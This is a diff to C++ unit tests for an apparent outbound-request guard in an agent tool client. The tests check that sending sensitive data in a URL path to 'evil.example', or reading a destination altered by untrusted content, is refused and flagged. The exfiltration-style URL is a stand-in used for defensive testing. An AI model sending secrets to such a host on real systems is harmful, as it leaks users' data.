@@ -101,8 +101,16 @@ TEST_P(WayOut, ordinary_resources_are_read_without_a_question) {
   EXPECT_EQ(read("notes://minutes"), 0);
 }
 
-TEST_P(WayOut, before_anything_untrusted_was_seen_it_passes) {
-  EXPECT_EQ(read("https://evil.example/" + std::string(kInPath)), 0);
+TEST_P(WayOut, data_of_a_class_are_asked_about_before_anything_untrusted_was_seen) {
+  EXPECT_EQ(read("https://evil.example/" + std::string(kInPath)), rpc::kRefused);
+  EXPECT_THAT(last_decision(), HasSubstr("ask-sensitive-out"));
+  EXPECT_EQ(read("https://evil.example/page"), 0);
+}
+
+TEST_P(WayOut, a_page_at_a_place_that_content_named_is_read_as_it_was_named_only) {
+  see_untrusted();
+  EXPECT_EQ(read("https://news.example/?the=ships"), rpc::kRefused);
+  EXPECT_THAT(last_decision(), HasSubstr("ask-altered-destination"));
 }
 
 TEST_P(WayOut, arguments_of_prompts_are_asked_about_where_they_go_to_another_server) {
@@ -131,10 +139,10 @@ TEST_P(WayOut, nothing_is_watched_that_could_not_be_read) {
   const auto listen = client->send(
       "subscriptions/listen",
       fmt::format(
-          R"("notifications":{{"resourceSubscriptions":["{}","https://news.example/fine"]}})",
+          R"("notifications":{{"resourceSubscriptions":["{}","https://elsewhere.example/fine"]}})",
           uri));
   bench.until([&] { return !listen->exchange.sent.empty(); });
-  EXPECT_THAT(listen->exchange.sent.front(), HasSubstr("https://news.example/fine"));
+  EXPECT_THAT(listen->exchange.sent.front(), HasSubstr("https://elsewhere.example/fine"));
   EXPECT_THAT(listen->exchange.sent.front(), ::testing::Not(HasSubstr("evil.example")));
 }
 
